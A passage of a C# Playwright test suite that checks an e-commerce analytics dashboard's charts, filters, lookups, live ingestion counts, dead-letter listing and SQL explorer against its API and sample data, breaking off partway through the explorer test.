using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Emporium.Tests.Orchestration.Dags;
using Emporium.Tests.Sources.Postgres;
using Emporium.Tests.Sources.SellerCatalog;
using Emporium.Tests.TestSupport;
using Microsoft.Playwright;

namespace Emporium.Tests.Web.Dashboard;

/// <summary>The dashboard in a real headless Chromium against a real server loaded with the real samples: every chart
/// must hold the numbers of the API it was drawn from, with no console error (CSP violations included).</summary>
[Collection(DashboardCollection.Name)]
public sealed class DashboardTests(DashboardFixture f)
{
    /// <summary>Digits (and a decimal point) of a formatted number, so "£1,234.50" reads 1234.50.</summary>
    private static double ParseShown(string text)
    {
        var s = new string(text.Where(c => char.IsDigit(c) || c is '.' or '-').ToArray());
        return double.Parse(s, CultureInfo.InvariantCulture);
    }

    private static void AssertSameNumbers(IReadOnlyList<double?> expected, IReadOnlyList<double?> actual, string what)
    {
        Assert.True(expected.Count > 0, $"{what}: the API returned no rows");
        Assert.Equal(expected, actual);
    }

    [Fact]
    public async Task Products_page_charts_hold_the_product_marts()
    {
        await using var p = await DashboardPage.OpenAsync(f, "/products");
        var prices = (await MartTable.GetAsync(f.Http, "api/v1/marts/price_distribution?limit=1000"))!;
        var chart = await p.ChartAsync("chart-price_distribution");
        AssertSameNumbers(prices.Numbers("products"), chart.Series[0].Values, "price_distribution");
        Assert.Equal(prices.Rows.Count, chart.Labels.Count);
        // The open-ended buckets read as people write them.
        Assert.Contains(chart.Labels, l => l.StartsWith("≤ ", StringComparison.Ordinal));
        Assert.Contains(chart.Labels, l => l.StartsWith("> ", StringComparison.Ordinal));
        var shown = await p.ColumnTextAsync("table-price_distribution", "products");
        Assert.Equal(prices.Numbers("products"), shown.Select(s => (double?)ParseShown(s)).ToList());

        var categories = (await MartTable.GetAsync(f.Http, "api/v1/marts/category_distribution?limit=20"))!;
        var catChart = await p.ChartAsync("chart-category_distribution");
        AssertSameNumbers(categories.Numbers("products"), catChart.Series[0].Values, "category_distribution");
        Assert.Equal(categories.Texts("category_name"), catChart.Labels);

        var avg = (await MartTable.GetAsync(f.Http, "api/v1/marts/avg_price_per_category?limit=20"))!;
        var avgChart = await p.ChartAsync("chart-avg_price_per_category");
        AssertSameNumbers(avg.Numbers("avg_price"), avgChart.Series[0].Values, "avg_price_per_category");

        // Lookups go through the read-only query API.
        var asin = (await MartTable.QueryAsync(f.Http, "SELECT asin, title FROM products ORDER BY asin LIMIT 1")).Texts("asin")[0];
        await p.Page.GetByRole(AriaRole.Searchbox, new() { Name = "ASIN" }).FillAsync(asin);
        await p.Page.GetByRole(AriaRole.Button, new() { Name = "Look up" }).ClickAsync();
        await Assertions.Expect(p.Page.Locator("[data-testid='asin-result'] td[data-col='asin']")).ToHaveTextAsync(asin);

        var category = (await MartTable.QueryAsync(f.Http,
            "SELECT category_id, COUNT(*) AS n FROM products WHERE category_id IS NOT NULL GROUP BY category_id ORDER BY n DESC, category_id LIMIT 1"));
        var categoryId = category.Texts("category_id")[0];
        var expectedRows = (int)Math.Min(100, category.Numbers("n")[0]!.Value);
        await p.Page.GetByRole(AriaRole.Spinbutton, new() { Name = "Category id" }).FillAsync(categoryId);
        await p.Page.GetByRole(AriaRole.Button, new() { Name = "Show products" }).ClickAsync();
        await Assertions.Expect(p.Page.Locator("[data-testid='category-result'] tbody tr")).ToHaveCountAsync(expectedRows);

        await p.ScreenshotAsync("products");
        await p.AssertAccessibleAsync();
        p.AssertNoErrors();
    }

    [Fact]
    public async Task Sales_page_charts_hold_the_sales_marts_and_filters_narrow_them()
    {
        await using var p = await DashboardPage.OpenAsync(f, "/sales");
        foreach (var (mart, value, label) in new[] { ("sales_by_country", "total_sales", "country"), ("popular_products", "total_quantity", "stock_code"), ("top_customers", "total_sales", "customer_id") })
        {
            var t = (await MartTable.GetAsync(f.Http, $"api/v1/marts/{mart}?limit=10"))!;
            var chart = await p.ChartAsync($"chart-{mart}");
            AssertSameNumbers(t.Numbers(value), chart.Series[0].Values, mart);
            // Countries are kept lower-case by the cleaning rule and shown as a reader writes them.
            var expectedLabels = label == "country" ? t.Texts(label).Select(Place).ToList() : t.Texts(label);
            Assert.Equal(expectedLabels, chart.Labels);
            if (label == "country")
            {
                Assert.Contains("United Kingdom", chart.Labels);
                Assert.Equal(expectedLabels, await p.ColumnTextAsync($"table-{mart}", label));
            }
            var shown = await p.ColumnTextAsync($"table-{mart}", value);
            Assert.Equal(t.Numbers(value), shown.Select(s => (double?)ParseShown(s)).ToList());
        }
        // The daily line is the daily_sales mart summed over countries per day.
        var daily = (await MartTable.GetAsync(f.Http, "api/v1/marts/daily_sales?limit=100000"))!;
        var perDay = daily.Rows
            .GroupBy(r => r[daily.Index("sales_date")].GetString()![..10])
            .OrderBy(g => g.Key, StringComparer.Ordinal)
            .ToDictionary(g => g.Key, g => g.Sum(r => r[daily.Index("total_sales")].GetDouble()));
        var line = await p.ChartAsync("chart-daily-sales");
        Assert.Equal(perDay.Keys.ToList(), line.Labels);
        for (var i = 0; i < perDay.Count; i++)
        {
            // The page's SQL rounds each day's sum to cents; the sum here is not rounded.
            Assert.InRange(Math.Abs(perDay.Values.ElementAt(i) - line.Series[0].Values[i]!.Value), 0, 0.0051);
        }
        await p.ScreenshotAsync("sales");
        await p.AssertAccessibleAsync();

        // Filtering to one country through the form: the line becomes that country's rows of the mart.
        var country = daily.Texts("country").GroupBy(c => c).OrderBy(g => g.Count()).ThenBy(g => g.Key, StringComparer.Ordinal).First().Key;
        await p.Page.GetByRole(AriaRole.Combobox, new() { Name = "Country" }).SelectOptionAsync(country);
        await p.Page.GetByRole(AriaRole.Button, new() { Name = "Apply" }).ClickAsync();
        await p.WaitReadyAsync("/sales");
        await p.Page.WaitForFunctionAsync("() => location.hash.includes('country=')");
        await p.WaitReadyAsync("/sales");
        var filtered = await p.ChartAsync("chart-daily-sales");
        var countryRows = daily.Rows.Where(r => r[daily.Index("country")].GetString() == country)
            .OrderBy(r => r[daily.Index("sales_date")].GetString(), StringComparer.Ordinal).ToList();
        Assert.Equal(countryRows.Select(r => r[daily.Index("sales_date")].GetString()![..10]).ToList(), filtered.Labels);
        Assert.Equal(countryRows.Select(r => (double?)r[daily.Index("total_sales")].GetDouble()).ToList(), filtered.Series[0].Values);
        var byCountry = await p.ChartAsync("chart-sales-by-country");
        Assert.Equal([Place(country)], byCountry.Labels);
        // The filter lists the countries as the page writes them and keeps the stored value.
        await Assertions.Expect(p.Page.GetByRole(AriaRole.Combobox, new() { Name = "Country" }).Locator("option:checked")).ToHaveTextAsync(Place(country));
        // The filtered rankings come from the clean_orders mart: they equal the raw order lines of that country,
        // cleaned here by seed 003's rule spelled out independently.
        var expectedTop = await MartTable.QueryAsync(f.Http,
            "SELECT customer_id, ROUND(SUM(quantity * unit_price), 2) AS total_sales FROM orders " +
            "WHERE customer_id IS NOT NULL AND invoice_date IS NOT NULL AND description IS NOT NULL AND description <> '' " +
            $"AND LOWER(TRIM(country)) = '{country.Replace("'", "''")}' GROUP BY customer_id ORDER BY total_sales DESC, customer_id LIMIT 10");
        var topChart = await p.ChartAsync("chart-top-customers");
        AssertSameNumbers(expectedTop.Numbers("total_sales"), topChart.Series[0].Values, "top customers of " + country);
        Assert.Equal(expectedTop.Texts("customer_id"), topChart.Labels);
        p.AssertNoErrors();
    }

    [Fact]
    public async Task Sales_country_in_a_link_matches_in_any_case_and_an_unknown_one_stays_the_shown_filter()
    {
        var daily = (await MartTable.GetAsync(f.Http, "api/v1/marts/daily_sales?limit=100000"))!;
        var country = daily.Texts("country").First(c => c != "(none)");
        var expectedDays = daily.Rows.Where(r => r[daily.Index("country")].GetString() == country)
            .Select(r => r[daily.Index("sales_date")].GetString()![..10]).Distinct().Order(StringComparer.Ordinal).ToList();

        // A hand-typed link spells the country as people do (?country=FRANCE); the marts hold it in lower case.
        var upper = country.ToUpperInvariant();
        await using var p = await DashboardPage.OpenAsync(f, $"/sales?country={Uri.EscapeDataString(upper)}");
        Assert.Equal(expectedDays, (await p.ChartAsync("chart-daily-sales")).Labels);
        await Assertions.Expect(p.Page.GetByRole(AriaRole.Combobox, new() { Name = "Country" })).ToHaveValueAsync(country);

        // A country no order names: the form shows that filter (not "All countries") and the cards say to widen it.
        await p.Page.GotoAsync("/#/sales?country=Atlantis");
        await p.WaitReadyAsync("/sales");
        var select = p.Page.GetByRole(AriaRole.Combobox, new() { Name = "Country" });
        await Assertions.Expect(select).ToHaveValueAsync("Atlantis");
        await Assertions.Expect(select.Locator("option:checked")).ToHaveTextAsync("Atlantis (no orders)");
        var empty = p.Page.GetByTestId("empty-state");
        await Assertions.Expect(empty).ToHaveCountAsync(4);
        foreach (var text in await empty.AllInnerTextsAsync())
        {
            Assert.Equal("No sales match these filters. Widen the date range or choose another country.", text);
        }
        p.AssertNoErrors();
    }

    [Fact]
    public async Task A_mart_card_cut_at_its_limit_says_so_and_links_to_the_whole_mart()
    {
        // The top 10 countries of many read as every country when nothing on the card says rows were left out.
        using var res = await f.Http.GetAsync("api/v1/marts/sales_by_country?limit=10");
        var body = await res.Content.ReadFromJsonAsync<JsonElement>();
        Assert.True(body.GetProperty("truncated").GetBoolean(), "the sample has more than 10 countries");
        var all = (await MartTable.QueryAsync(f.Http, "SELECT * FROM sales_by_country")).Rows.Count;

        await using var p = await DashboardPage.OpenAsync(f, "/sales");
        var note = p.Page.GetByTestId("truncated-sales_by_country");
        await Assertions.Expect(note).ToContainTextAsync("The first 10 rows of the mart.");
        // Marts the API sent whole carry no such line.
        await Assertions.Expect(p.Page.Locator("[data-testid^='truncated-']")).ToHaveCountAsync(await CountTruncatedAsync("popular_products", "top_customers"));
        await note.GetByRole(AriaRole.Link).ClickAsync();
        await p.WaitReadyAsync("/sql");
        await Assertions.Expect(p.Page.GetByRole(AriaRole.Textbox, new() { Name = "SQL", Exact = true })).ToHaveValueAsync("SELECT * FROM sales_by_country");
        await Assertions.Expect(p.Page.Locator("[data-testid='result-table'] tbody tr")).ToHaveCountAsync(all);

        await using var reviews = await DashboardPage.OpenAsync(f, "/reviews");
        using var ratings = await f.Http.GetAsync("api/v1/marts/review_ratings");
        Assert.False((await ratings.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("truncated").GetBoolean());
        await Assertions.Expect(reviews.Page.GetByTestId("truncated-review_ratings")).ToHaveCountAsync(0);
        p.AssertNoErrors();
        reviews.AssertNoErrors();
    }

    /// <summary>How many of the marts the API cuts at the sales page's limit of 10, counting sales_by_country.</summary>
    private async Task<int> CountTruncatedAsync(params string[] marts)
    {
        var n = 1;
        foreach (var mart in marts)
        {
            using var res = await f.Http.GetAsync($"api/v1/marts/{mart}?limit=10");
            n += (await res.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("truncated").GetBoolean() ? 1 : 0;
        }
        return n;
    }

    [Fact]
    public async Task Reviews_page_charts_hold_the_review_marts()
    {
        await using var p = await DashboardPage.OpenAsync(f, "/reviews");
        var ratings = (await MartTable.GetAsync(f.Http, "api/v1/marts/review_ratings"))!;
        var chart = await p.ChartAsync("chart-review_ratings");
        AssertSameNumbers(ratings.Numbers("reviews"), chart.Series[0].Values, "review_ratings");
        var top = (await MartTable.GetAsync(f.Http, "api/v1/marts/top_reviewed_products?limit=10"))!;
        var topChart = await p.ChartAsync("chart-top_reviewed_products");
        AssertSameNumbers(top.Numbers("reviews"), topChart.Series[0].Values, "top_reviewed_products");
        Assert.Equal(top.Texts("asin"), topChart.Labels);
        // Sentiment per month splits every dated review once: its three series add up to the rating mart's total.
        var sentiment = await p.ChartAsync("chart-sentiment");
        var classified = sentiment.Series.Sum(s => s.Values.Sum(v => v ?? 0));
        var dated = (await MartTable.QueryAsync(f.Http, "SELECT COUNT(*) AS n FROM reviews WHERE reviewed_at IS NOT NULL")).Numbers("n")[0];
        Assert.Equal(dated, classified);
        Assert.True(classified > 0);
        await p.ScreenshotAsync("reviews");
        await p.AssertAccessibleAsync();
        p.AssertNoErrors();
    }

    [Fact]
    public async Task Customers_page_shows_the_user_behaviour_metric_the_DAG_wrote()
    {
        await using var p = await DashboardPage.OpenAsync(f, "/customers");
        var metric = (await MartTable.GetAsync(f.Http, "api/v1/marts/user_behavior_metric?limit=20"))!;
        Assert.Equal(20, metric.Rows.Count);
        // Independently: the real user_purchase export (all of one day) summed per customer, highest first.
        var spent = PostgresExtractorTests.ReadCsv(SampleData.UserPurchase)
            .Where(r => !string.IsNullOrEmpty(r["customer_id"]))
            .GroupBy(r => long.Parse(r["customer_id"]!, CultureInfo.InvariantCulture))
            .Select(g => (Customer: g.Key, Amount: (double)g.Sum(r => long.Parse(r["quantity"]!, CultureInfo.InvariantCulture) * decimal.Parse(r["unit_price"]!, CultureInfo.InvariantCulture))))
            .OrderByDescending(x => x.Amount).ThenBy(x => x.Customer).Take(20).ToList();
        var amounts = await p.ChartAsync("chart-user_behavior_metric");
        Assert.Equal(spent.Select(s => s.Customer.ToString(CultureInfo.InvariantCulture)), amounts.Labels);
        Assert.All(spent.Zip(amounts.Series[0].Values), x => Assert.Equal(x.First.Amount, x.Second!.Value, 6));
        AssertSameNumbers(metric.Numbers("amount_spent"), amounts.Series[0].Values, "user_behavior_metric");
        Assert.Equal(metric.Numbers("amount_spent"), (await p.ColumnTextAsync("table-user_behavior_metric", "amount_spent")).Select(t => (double?)ParseShown(t)).ToList());
        // The review score is the number of positive reviews the DAG's classification staged for each customer.
        var staged = PostgresExtractorTests.ReadCsv(Path.Combine(f.Server.Data.Path, "lake", "stage", "movie_review", $"ds={DashboardFixture.BehaviourDay}", "movie_review.csv"))
            .GroupBy(r => long.Parse(r["cid"]!, CultureInfo.InvariantCulture))
            .ToDictionary(g => g.Key, g => (double?)g.LongCount(r => r["positive_review"] == "true"));
        var scores = await p.ChartAsync("chart-review-score");
        Assert.Equal(amounts.Labels, scores.Labels);
        Assert.Equal(spent.Select(s => staged.GetValueOrDefault(s.Customer, 0)), scores.Series[0].Values);
        Assert.Equal(metric.Numbers("review_score"), scores.Series[0].Values);
        Assert.Contains(scores.Series[0].Values, v => v > 0);
        await p.AssertChartDrawnAsync("chart-user_behavior_metric");
        await p.AssertChartDrawnAsync("chart-review-score");
        await p.ScreenshotAsync("customers");
        await p.AssertAccessibleAsync();

        // Per run date: the day the DAG ran is offered, and choosing it shows that day's customers.
        await p.Page.GetByRole(AriaRole.Combobox, new() { Name = "Run date (ds)" }).SelectOptionAsync(DashboardFixture.BehaviourDay);
        await p.Page.GetByRole(AriaRole.Button, new() { Name = "Show", Exact = true }).ClickAsync();
        await p.Page.WaitForFunctionAsync("() => location.hash.includes('ds=')");
        await p.WaitReadyAsync("/customers");
        var day = await p.ChartAsync("chart-behaviour-ds");
        Assert.Equal(amounts.Labels, day.Labels);
        Assert.Equal(amounts.Series[0].Values, day.Series[0].Values);
        await p.AssertChartDrawnAsync("chart-behaviour-ds");

        // Lookup of one customer: their row of the metric.
        var customer = spent[0].Customer.ToString(CultureInfo.InvariantCulture);
        await p.Page.GetByRole(AriaRole.Spinbutton, new() { Name = "Customer id" }).FillAsync(customer);
        await p.Page.GetByRole(AriaRole.Button, new() { Name = "Look up customer" }).ClickAsync();
        var found = p.Page.Locator("[data-testid='customer-result'] tbody tr");
        await Assertions.Expect(found).ToHaveCountAsync(1);
        await Assertions.Expect(found.Locator("td[data-col='customer_id']")).ToHaveAttributeAsync("data-value", customer);
        Assert.Equal(spent[0].Amount, double.Parse((await found.Locator("td[data-col='amount_spent']").GetAttributeAsync("data-value"))!, CultureInfo.InvariantCulture), 6);
        await p.AssertAccessibleAsync();
        p.AssertNoErrors();
    }

    [Fact]
    public async Task Sellers_page_shows_the_asin_matches_and_alerts_of_the_seller_catalog_runs()
    {
        await using var p = await DashboardPage.OpenAsync(f, "/sellers");
        // Independently: the captured offers of the second day (one offer dropped) against the distributors' file.
        var offered = SellerCatalogStub.SampleProducts().Select(o => (string)o!["asin"]!).Distinct().Where(a => a != DashboardFixture.DroppedAsin).ToHashSet();
        var suppliers = SellerCatalogDagTests.Suppliers;
        var matchedAsins = offered.Intersect(suppliers.Select(s => s.Asin)).Count();

        var sellers = (await MartTable.GetAsync(f.Http, "api/v1/marts/sellers_by_matches?limit=10"))!;
        var sellerChart = await p.ChartAsync("chart-sellers_by_matches");
        Assert.Equal([SellerCatalogDagTests.Seller], sellerChart.Labels);
        Assert.Equal([(double?)matchedAsins], sellerChart.Series[0].Values);
        Assert.Equal([(double?)offered.Count], sellerChart.Series[1].Values);
        AssertSameNumbers(sellers.Numbers("matched_asins"), sellerChart.Series[0].Values, "sellers_by_matches");

        var distributors = (await MartTable.GetAsync(f.Http, "api/v1/marts/distributors_by_matches?limit=10"))!;
        var expectedDistributors = suppliers.GroupBy(s => s.Distributor)
            .Select(g => (Name: g.Key, Matched: (double?)g.Count(s => offered.Contains(s.Asin))))
            .OrderByDescending(d => d.Matched).ThenBy(d => d.Name, StringComparer.Ordinal).ToList();
        var distributorChart = await p.ChartAsync("chart-distributors_by_matches");
        Assert.Equal(expectedDistributors.Select(d => d.Name), distributorChart.Labels);
        Assert.Equal(expectedDistributors.Select(d => d.Matched), distributorChart.Series[0].Values);
        AssertSameNumbers(distributors.Numbers("matched_asins"), distributorChart.Series[0].Values, "distributors_by_matches");

        var best = (await MartTable.GetAsync(f.Http, "api/v1/marts/best_sellers?limit=10"))!;
        var bestChart = await p.ChartAsync("chart-best_sellers");
        AssertSameNumbers(best.Numbers("sales_volume"), bestChart.Series[0].Values, "best_sellers");
        Assert.Equal(best.Texts("asin"), bestChart.Labels);
        Assert.Equal(offered.Order(StringComparer.Ordinal), bestChart.Labels.Order(StringComparer.Ordinal));

        // Every (offered ASIN, distributor) pair of the latest snapshot, as the warehouse holds them.
        var pairs = suppliers.Where(s => offered.Contains(s.Asin)).Select(s => $"{s.Asin}/{s.Distributor}").Order(StringComparer.Ordinal).ToList();
        var inWarehouse = await MartTable.QueryAsync(f.Http, "SELECT asin, distributor FROM asin_matches ORDER BY asin, distributor");
        Assert.Equal(pairs, inWarehouse.Rows.Select(r => $"{r[0].GetString()}/{r[1].GetString()}").ToList());
        var shownAsins = await p.Page.Locator("[data-testid='table-asin_matches'] td[data-col='asin']").EvaluateAllAsync<string[]>("els => els.map(e => e.dataset.value)");
        var shownDistributors = await p.Page.Locator("[data-testid='table-asin_matches'] td[data-col='distributor']").EvaluateAllAsync<string[]>("els => els.map(e => e.dataset.value)");
        Assert.Equal(pairs, shownAsins.Zip(shownDistributors, (a, d) => $"{a}/{d}").ToList());

        // The alerts feed: the second snapshot raised one price by 20 % and dropped one offer.
        var alerts = (await f.Http.GetFromJsonAsync<JsonElement>("api/v1/alerts?limit=50")).GetProperty("alerts").EnumerateArray().ToList();
        Assert.Contains(alerts, a => a.GetProperty("kind").GetString() == "price_change" && a.GetProperty("asin").GetString() == DashboardFixture.RaisedAsin);
        Assert.Contains(alerts, a => a.GetProperty("kind").GetString() == "out_of_stock" && a.GetProperty("asin").GetString() == DashboardFixture.DroppedAsin);
        var shownKinds = await p.Page.Locator("[data-testid='table-alerts'] td[data-col='kind']").AllInnerTextsAsync();
        var shownAlertAsins = await p.Page.Locator("[data-testid='table-alerts'] td[data-col='asin']").AllInnerTextsAsync();
        Assert.Equal(alerts.Select(a => $"{a.GetProperty("kind").GetString()}/{a.GetProperty("asin").GetString()}"), shownKinds.Zip(shownAlertAsins, (k, a) => $"{k}/{a}"));
        var price = alerts.Single(a => a.GetProperty("kind").GetString() == "price_change" && a.GetProperty("asin").GetString() == DashboardFixture.RaisedAsin);
        var priceRow = p.Page.Locator("[data-testid='table-alerts'] tbody tr").Filter(new() { Has = p.Page.Locator($"td[data-col='asin'][data-value='{DashboardFixture.RaisedAsin}']") });
        await Assertions.Expect(priceRow.Locator("td[data-col='source']")).ToHaveTextAsync(price.GetProperty("source").GetString()!);
        Assert.Equal(price.GetProperty("newValue").GetDouble(), double.Parse((await priceRow.Locator("td[data-col='new_value']").GetAttributeAsync("data-value"))!, CultureInfo.InvariantCulture));
        // Prices read in the offers' currency (the captured response's USD), not as bare numbers.
        Assert.Equal("USD", price.GetProperty("currency").GetString());
        await Assertions.Expect(priceRow.Locator("td[data-col='new_value']")).ToHaveTextAsync(new System.Text.RegularExpressions.Regex(@"^\$\d[\d,]*\.\d\d$"));
        await Assertions.Expect(priceRow.Locator("td[data-col='old_value']")).ToHaveTextAsync(new System.Text.RegularExpressions.Regex(@"^\$\d[\d,]*\.\d\d$"));

        foreach (var chart in new[] { "chart-sellers_by_matches", "chart-distributors_by_matches", "chart-best_sellers" })
        {
            await p.AssertChartDrawnAsync(chart);
        }
        await p.ScreenshotAsync("sellers");
        await p.AssertAccessibleAsync();

        // Lookup of one matched ASIN: the distributors carrying it, with their cost.
        var asin = suppliers.Where(s => offered.Contains(s.Asin)).GroupBy(s => s.Asin).OrderByDescending(g => g.Count()).ThenBy(g => g.Key, StringComparer.Ordinal).First();
        await p.Page.GetByRole(AriaRole.Searchbox, new() { Name = "Matched ASIN" }).FillAsync(asin.Key);
        await p.Page.GetByRole(AriaRole.Button, new() { Name = "Find distributors" }).ClickAsync();
        var rows = p.Page.Locator("[data-testid='asin-match-result'] tbody tr");
        await Assertions.Expect(rows).ToHaveCountAsync(asin.Count());
        var costs = await rows.Locator("td[data-col='cost']").EvaluateAllAsync<string[]>("els => els.map(e => e.dataset.value)");
        var names = await rows.Locator("td[data-col='distributor']").EvaluateAllAsync<string[]>("els => els.map(e => e.dataset.value)");
        Assert.Equal(asin.Select(s => $"{s.Distributor}={s.Cost.ToString(CultureInfo.InvariantCulture)}").Order(StringComparer.Ordinal),
            names.Zip(costs, (n, c) => $"{n}={c}").Order(StringComparer.Ordinal));
        await p.AssertAccessibleAsync();
        p.AssertNoErrors();
    }

    [Fact]
    public async Task Overview_counts_follow_new_events_without_reload()
    {
        await using var p = await DashboardPage.OpenAsync(f, "/");
        var cell = p.Page.GetByTestId("rows-reviews");
        await Assertions.Expect(cell).Not.ToHaveAttributeAsync("data-value", "");
        var before = long.Parse((await cell.GetAttributeAsync("data-value"))!, CultureInfo.InvariantCulture);
        var api = (await f.Http.GetFromJsonAsync<JsonElement>("api/v1/datasets")).GetProperty("datasets").EnumerateArray()
            .First(d => d.GetProperty("name").GetString() == "reviews").GetProperty("rows").GetInt64();
        Assert.Equal(api, before);
        await p.ScreenshotAsync("overview");
        await p.AssertAccessibleAsync();

        // The alerts of the seller catalog runs are in the recent alerts card.
        await Assertions.Expect(p.Page.GetByTestId("recent-alerts")).ToContainTextAsync("price_change");

        // Reviews stream in, batch after batch, each review with its own id: the open page follows every batch
        // (its row count and the total tile), with no reload.
        var navigations = 0;
        p.Page.FrameNavigated += (_, _) => navigations++;
        var total = p.Page.GetByTestId("tile-total-rows").Locator(".tile-value");
        var totalBefore = ParseShown(await total.InnerTextAsync());
        var marker = Guid.NewGuid().ToString("N")[..8];
        const int perBatch = 10;
        for (var batch = 1; batch <= 3; batch++)
        {
            var lines = Enumerable.Range(0, perBatch).Select(i => JsonSerializer.Serialize(new
            {
                review_id = $"live-{marker}-{batch}-{i}", asin = "B000LIVE01", rating = 1 + i % 5, text = "posted while the overview is open",
                reviewer_id = $"r{i}", reviewed_at = "2024-05-01T10:00:00Z",
            })).ToList();
            await SampleLoader.SendLinesAsync(f.Http, "reviews", lines);
            await Assertions.Expect(cell).ToHaveAttributeAsync("data-value", (before + batch * perBatch).ToString(CultureInfo.InvariantCulture));
        }
        // The tiles are redrawn by the same poll as the table, so they moved too (other datasets only grow).
        Assert.True(ParseShown(await total.InnerTextAsync()) >= totalBefore + 3 * perBatch);
        Assert.Equal(0, navigations);
        p.AssertNoErrors();
    }

    [Fact]
    public async Task Overview_lists_the_dead_letters_with_the_datasets()
    {
        // Two reviews ingest rejects (no rating; a rating of 9): they land in dead_letters, through the log.
        var marker = Guid.NewGuid().ToString("N")[..8];
        var body = $$"""{"review_id":"dead-{{marker}}-1","asin":"B000DEAD01"}""" + "\n" + $$"""{"review_id":"dead-{{marker}}-2","asin":"B000DEAD01","rating":9}""";
        using (var sent = await f.Http.PostAsync("api/v1/ingest/reviews", new StringContent(body, Encoding.UTF8, "application/x-ndjson")))
        {
            Assert.Equal(HttpStatusCode.BadRequest, sent.StatusCode); // no valid record
        }
        async Task<JsonElement[]> DatasetsAsync() =>
            (await f.Http.GetFromJsonAsync<JsonElement>("api/v1/datasets")).GetProperty("datasets").EnumerateArray().ToArray();
        using var guard = new CancellationTokenSource(TimeSpan.FromSeconds(60));
        JsonElement[] api;
        while (true)
        {
            // Landed first, then the list: read the other way round, the list could predate them.
            var landed = await MartTable.QueryAsync(f.Http, $"SELECT count(*) AS n FROM dead_letters WHERE raw LIKE '%dead-{marker}-%'");
            api = await DatasetsAsync();
            if (landed.Texts("n")[0] == "2" && api.All(d => d.GetProperty("log").GetProperty("lag").GetInt64() == 0))
            {
                break;
            }
            await Task.Delay(200, guard.Token);
        }
        var dead = api.Single(d => d.GetProperty("kind").GetString() == "dead_letters");
        var deadRows = dead.GetProperty("rows").GetInt64();
        var dataRows = api.Where(d => d.GetProperty("kind").GetString() == "dataset").Sum(d => d.GetProperty("rows").GetInt64());

        await using var p = await DashboardPage.OpenAsync(f, "/");
        var row = p.Page.Locator("[data-testid='datasets-table'] tr[data-dataset='dead_letters']");
        await Assertions.Expect(row).ToHaveAttributeAsync("data-kind", "dead_letters");
        await Assertions.Expect(row.GetByRole(AriaRole.Rowheader)).ToContainTextAsync("rejected records");
        await Assertions.Expect(p.Page.GetByTestId("rows-dead_letters")).ToHaveAttributeAsync("data-value", deadRows.ToString(CultureInfo.InvariantCulture));
        await Assertions.Expect(p.Page.GetByTestId("lag-dead_letters")).ToHaveAttributeAsync("data-value", "0");
        // Its tile counts them; the rows tile counts the datasets' rows only, not the dead letters again.
        Assert.Equal(deadRows, ParseShown(await p.Page.GetByTestId("tile-dead-letters").Locator(".tile-value").InnerTextAsync()));
        Assert.Equal(dataRows, ParseShown(await p.Page.GetByTestId("tile-total-rows").Locator(".tile-value").InnerTextAsync()));
        await p.AssertAccessibleAsync();

        // Its link opens the newest dead letters in the explorer, with the reasons.
        await row.GetByRole(AriaRole.Link, new() { Name = "rejected records" }).ClickAsync();
        await p.WaitReadyAsync("/sql");
        var raws = p.Page.Locator("[data-testid='result-table'] td[data-col='raw']").Filter(new() { HasText = $"dead-{marker}-" });
        await Assertions.Expect(raws).ToHaveCountAsync(2);
        await Assertions.Expect(p.Page.Locator("[data-testid='result-table'] td[data-col='field']").Filter(new() { HasText = "rating" }).First).ToBeVisibleAsync();
        p.AssertNoErrors();
    }

    [Fact]
    public async Task Explorer_runs_a_query_and_refuses_writes_and_file_reads()
    {
        await using var p = await DashboardPage.OpenAsync(f, "/sql");
        var input = p.Page.GetByRole(AriaRole.Textbox, new() { Name = "SQL", Exact = true });
        await input.FillAsync("SELECT rating, COUNT(*) AS reviews FROM reviews GROUP BY rating ORDER BY rating");
        await p.Page.GetByTestId("run-sql").ClickAsync();
        var rows = p.Page.Locator("[data-testid='result-table'] tbody tr");
        var expected = (await MartTable.QueryAsync(f.Http, "SELECT rating, COUNT(*) AS reviews FROM reviews GROUP BY rating ORDER BY rating"));
        await Assertions.Expect(rows).ToHaveCountAsync(expected.Rows.Count);
        await p.Page.Locator(".chart[data-rendered='true']").WaitForAsync();
        var chart = await p.ChartAsync("result-chart");
        Assert.Equal(expected.Numbers("reviews"), chart.Series[0].Values);
        // The chart follows the chosen kind.
        await p.Page.GetByRole(AriaRole.Combobox, new() { Name = "Chart", Exact = true }).SelectOptionAsync("pie");
        await Assertions.Expect(p.Page.GetByTestId("result-chart")).ToHaveAttributeAsync("data-kind", "pie");
        var download = await p.Page.RunAndWaitForDownloadAsync(() => p.Page.GetByTestId("download-csv").ClickAsync());
        var csv = await File.ReadAllTextAsync((await download.PathAsync())!, Encoding.UTF8);
        Assert.Equal(expected.Rows.Count + 1, csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Length);
        Assert.StartsWith("rating,reviews\r\n", csv, StringComparison.Ordinal);
        await p.ScreenshotAsync("sql-explorer");

        // Lists, structs and intervals read as JSON and text, not as numbers or a runtime type name; an interval of
        // months and an infinite date are values too. A SUM of integers (DuckDB's HUGEINT) is a number to chart.
        await input.FillAsync("SELECT rating, [rating, rating * 2] AS pair, {'r': rating} AS s, INTERVAL 90 MINUTE AS gap, "
                              + "INTERVAL 1 MONTH + INTERVAL 2 DAY AS span, DATE 'infinity' AS open_end, SUM(rating) AS points, "
                              + "INTERVAL '-1 year 2.5 seconds' AS back FROM reviews GROUP BY rating ORDER BY rating");
        await p.Page.GetByTestId("run-sql").ClickAsync();
        var first = (long)expected.Numbers("rating")[0]!.Value;
        var cells = p.Page.Locator("[data-testid='result-table'] tbody tr").First.Locator("td");
        await Assertions.Expect(cells.Nth(1)).ToHaveTextAsync($"[{first},{first * 2}]");
        await Assertions.Expect(cells.Nth(2)).ToHaveTextAsync($"{{\"r\":{first}}}");
        // The raw value a cell keeps is the JSON the API sent, not JavaScript's "1,2" or "[object Object]".
        await Assertions.Expect(cells.Nth(1)).ToHaveAttributeAsync("data-value", $"[{first},{first * 2}]");
        await Assertions.Expect(cells.Nth(2)).ToHaveAttributeAsync("data-value", $"{{\"r\":{first}}}");
        // Intervals read as words; the cell keeps the ISO 8601 duration the API sent.
        await Assertions.Expect(cells.Nth(3)).ToHaveTextAsync("1 hour 30 minutes");
        await Assertions.Expect(cells.Nth(3)).ToHaveAttributeAsync("data-value", "PT1H30M");
        await Assertions.Expect(cells.Nth(4)).ToHaveTextAsync("1 month 2 days");
        await Assertions.Expect(cells.Nth(4)).ToHaveAttributeAsync("data-value", "P1M2D");
